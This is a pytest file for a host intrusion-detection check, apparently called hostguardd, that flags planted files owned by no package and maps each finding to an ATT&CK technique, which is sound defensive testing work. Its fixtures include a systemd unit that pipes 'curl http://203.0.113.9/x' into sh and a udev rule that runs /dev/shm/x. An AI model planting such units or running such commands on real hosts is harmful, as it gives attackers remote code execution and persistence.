"""The check of what belongs to no package: what is planted, what administrators and the system make."""

from __future__ import annotations

import os
import shutil
import time
from pathlib import Path

import pytest

from hostguardd.host.mounts import Mount
from hostguardd.investigate.checks import unowned
from hostguardd.investigate.files import explained
from hostguardd.investigate.interface import Item, Verdict
from hostguardd.investigate.scene import Options
from hostguardd.packages.interface import NoPackages
from tests import packaged, rights
from tests.packaged import copied, manager
from tests.scenes import Findings, looked, scene

pytestmark = pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="dpkg-deb is not installed")

needs_rpm = pytest.mark.skipif(
    not rights.ROOT or any(shutil.which(name) is None for name in ("rpm", "rpmbuild", "rpmsign", "gpg")),
    reason="needs root, rpm, rpmbuild, rpmsign and gpg",
)

LATER = 90 * 86400
"""Seconds after all was installed at which most looks are taken: a ctime cannot be set back."""


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return packaged.debian(tmp_path_factory.mktemp("debian"))


@pytest.fixture
def root(made: Path, tmp_path: Path) -> Path:
    return copied(made, tmp_path / "root")


def found(root: Path, *, later: float = 0.0) -> Findings:
    where = scene(os.fsencode(root), packages=manager(root), now=time.time() + later, options=Options(days=7))
    return looked(unowned.look, where)


def plant(root: Path, name: str, mode: int = 0o755, data: bytes = b"\x7fELF") -> None:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)


def complete(findings: Findings) -> None:
    for item in findings.items:
        if item.verdict is not Verdict.FINE:
            assert item.means
            assert item.next
            assert item.evidence


def test_a_clean_host(root: Path) -> None:
    findings = found(root)
    assert [item.name for item in findings.items] == ["owned files"]
    assert findings.unseen == []


@pytest.mark.parametrize(
    ("name", "technique"),
    [
        ("usr/bin/lss", "T1036.005"),
        ("usr/sbin/.x", "T1036.005"),
        ("usr/lib/libevil.so.1", "T1574.006"),
        ("usr/lib/x86_64-linux-gnu/security/pam_evil.so", "T1574.006"),
        ("usr/lib/modules/6.1.0/kernel/evil.ko.xz", "T1547.006"),
    ],
)
def test_what_was_planted_of_late(root: Path, name: str, technique: str) -> None:
    plant(root, name)
    findings = found(root)
    assert findings.suspicious == [f"/{name}"]
    assert findings.named(f"/{name}").technique == technique
    complete(findings)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("usr/lib/systemd/system/x.service", "[Service]\nExecStart=sh -c 'curl http://203.0.113.9/x|sh'\n"),
        ("usr/lib/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/dev/shm/x"\n'),
    ],
)
def test_a_unit_that_does_what_intruders_do_is_suspicious_at_any_age(
    root: Path, name: str, data: str
) -> None:
    plant(root, name, 0o644, data.encode())
    item = found(root, later=LATER).named(f"/{name}")
    assert item.verdict is Verdict.SUSPICIOUS
    assert item.evidence[1].source.startswith(f"/{name}:")
    plant(root, name, 0o644, b"[Service]\nExecStart=/usr/bin/true\n")
    item = found(root, later=LATER).named(f"/{name}")
    assert item.verdict is Verdict.NOTABLE


def test_what_has_long_been_there_is_notable(root: Path) -> None:
    plant(root, "usr/bin/lss")
    findings = found(root, later=LATER)
    assert [item.name for item in findings.of(Verdict.NOTABLE)] == ["/usr/bin/lss"]
    assert findings.suspicious == []
    complete(findings)


def test_a_forged_mtime_hides_nothing(root: Path) -> None:
    plant(root, "usr/bin/lss")
    os.utime(root / "usr/bin/lss", (1, 1))
    assert found(root).suspicious == ["/usr/bin/lss"]


def test_who_touches_its_neighbours_explains_nothing(root: Path, tmp_path: Path) -> None:
    files = {f"usr/bin/more{number}": (0o755, b"x") for number in range(3)}
    packaged.install(root, packaged.deb(tmp_path, "more", files))
    plant(root, "usr/bin/lss")
    for path in (root / "usr/bin").iterdir():
        os.utime(path)
    assert found(root).suspicious == ["/usr/bin/lss"]


def test_what_came_with_the_host_itself_is_notable(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(explained, "LEAST_DEPLOYED", 3)
    plant(root, "usr/bin/lss")
    (root / "var/log/dpkg.log").unlink()
    findings = found(root)
    assert [item.name for item in findings.of(Verdict.NOTABLE)] == ["/usr/bin/lss"]
    assert findings.suspicious == []


def test_what_a_package_s_script_made_is_explained_by_its_installation(root: Path) -> None:
    (root / "usr/bin/made").symlink_to("/opt/tool")
    assert found(root).named("/usr/bin/made").verdict is Verdict.FINE
    (root / "var/log/dpkg.log").unlink()
    assert [item.name for item in found(root).of(Verdict.NOTABLE)] == ["/usr/bin/made"]


def test_links_are_whatever_they_lead_to(root: Path) -> None:
    (root / "usr/bin/alternative").symlink_to("/etc/alternatives/alternative")
    (root / "etc/alternatives").mkdir()
    (root / "etc/alternatives/alternative").symlink_to("/usr/bin/tool")
    (root / "usr/bin/evil").symlink_to("/tmp/.x/evil")
    (root / "etc/systemd/system/multi-user.target.wants").mkdir(parents=True)
    (root / "etc/systemd/system/multi-user.target.wants/a.service").symlink_to("/opt/a.service")
    (root / "etc/systemd/system/masked.service").symlink_to("/dev/null")
    findings = found(root)
    assert findings.suspicious == ["/usr/bin/evil"]
    assert findings.of(Verdict.NOTABLE) == []


def test_settings_are_left_to_the_checks_of_settings(root: Path) -> None:
    plant(root, "etc/systemd/system/mine.service", 0o644, b"[Service]\n")
    plant(root, "etc/sudoers.d/mine", 0o440, b"mine ALL=(ALL) ALL\n")
    plant(root, "usr/lib/systemd/system/mine.service", 0o644, b"[Service]\n")
    findings = found(root)
    assert "2 files of settings" in findings.named("settings of no package").says
    told = [item.name for item in findings.items if item.verdict > Verdict.FINE]
    assert told == ["/usr/lib/systemd/system/mine.service"]


def test_what_the_system_makes_is_left_out(root: Path) -> None:
    for name in (
        "boot/initrd.img-6.1.0", "boot/grub/i386-pc/normal.mod", "boot/initramfs-5.14.0.img",
        "etc/pam.d/common-auth", "etc/pam.d/system-auth", "etc/cron.d/.placeholder",
    ):  # fmt: skip
        plant(root, name, 0o644)
    for name in (
        "usr/lib/python3/__pycache__/x.cpython-311.pyc", "usr/lib/modules/6.1.0/modules.dep",
        "usr/lib/udev/hwdb.bin", "usr/lib/locale/locale-archive", "usr/local/bin/mine",
    ):  # fmt: skip
        plant(root, name, 0o644 if "local/" not in name else 0o755)
    assert [item.name for item in found(root).items] == ["owned files"]


def test_a_kernel_of_no_package(root: Path) -> None:
    plant(root, "boot/vmlinuz-evil", 0o644)
    assert [item.name for item in found(root).of(Verdict.NOTABLE)] == ["/boot/vmlinuz-evil"]


def test_a_hook_of_python(root: Path) -> None:
    plant(root, "usr/lib/python3/dist-packages/evil.pth", 0o644, b"import os\n")
    item = found(root).named("/usr/lib/python3/dist-packages/evil.pth")
    assert (item.verdict, item.technique) == (Verdict.NOTABLE, "T1546.018")


def test_a_tree_is_one_item(root: Path) -> None:
    for number in range(50):
        plant(root, f"usr/lib/jvm/jdk/bin/{number}")
        plant(root, f"usr/lib/python3/dist-packages/scipy/{number}.so")
    findings = found(root)
    trees = {item.name: item.details["count"] for item in findings.of(Verdict.NOTABLE)}
    assert trees == {
        "files of no package: /usr/lib/jvm/jdk": 50,
        "files of no package: /usr/lib/python3/dist-packages/scipy": 50,
    }
    assert findings.suspicious == []
    complete(findings)


def test_names_stay_the_same(root: Path) -> None:
    for number in range(20):
        plant(root, f"usr/lib/vendor/{number}")
    plant(root, "usr/bin/one")

    def names(items: list[Item]) -> list[tuple[str, Verdict]]:
        return [(item.name, item.verdict) for item in items]

    assert names(found(root).items) == names(found(root).items)


def test_hostile_entries_hold_nobody(root: Path) -> None:
    os.mkfifo(root / "usr/bin/fifo", 0o777)
    (root / "usr/bin/loop").symlink_to("loop")
    (root / "usr/lib/again").symlink_to("/usr/lib")
    plant(root, "usr/bin/\x1b[2J")
    name = os.fsencode(root) + b"/usr/bin/\xff\n"
    with open(name, "wb"):
        os.chmod(name, 0o755)
    findings = found(root)
    assert {"/usr/bin/\\x1b[2J", "/usr/bin/\\xff\\x0a"} <= set(findings.suspicious)
    assert all(item.says.isprintable() for item in findings.items)


@needs_rpm
def test_a_program_in_place_of_a_link_of_alternatives(tmp_path: Path) -> None:
    root = packaged.redhat(tmp_path)
    (root / "usr/bin/ghost").symlink_to("/opt/vendor/ghost")
    assert [item.name for item in found(root).items] == ["owned files"]
    (root / "usr/bin/ghost").unlink()
    plant(root, "usr/bin/ghost")
    assert [item.name for item in found(root, later=LATER).of(Verdict.NOTABLE)] == ["/usr/bin/ghost"]


def test_what_lies_on_another_machine_is_not_walked(root: Path) -> None:
    plant(root, "usr/lib/share/x")
    where = scene(os.fsencode(root), packages=manager(root))
    share = Mount(b"/usr/lib/share", b"nfs4", b"server:/x", 1, b"/", b"rw")
    where.host.files.mounts = lambda: [share]  # type: ignore[method-assign]
    findings = looked(unowned.look, where)
    assert [item.name for item in findings.items] == ["owned files"]
    assert [one.scope for one in findings.unseen] == ["/usr/lib/share"]


def test_without_a_package_manager_nothing_is_claimed(tmp_path: Path) -> None:
    findings = looked(unowned.look, scene(os.fsencode(tmp_path), packages=NoPackages()))
    assert findings.items == []
    assert len(findings.unseen) == 1


def test_a_folder_of_very_many_names_hides_nothing(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(unowned, "MOST_ENTRIES", 5)
    for number in range(10):
        plant(root, f"usr/bin/{number}", 0o644)
    plant(root, "usr/bin/zz")
    assert found(root).suspicious == ["/usr/bin/zz"]
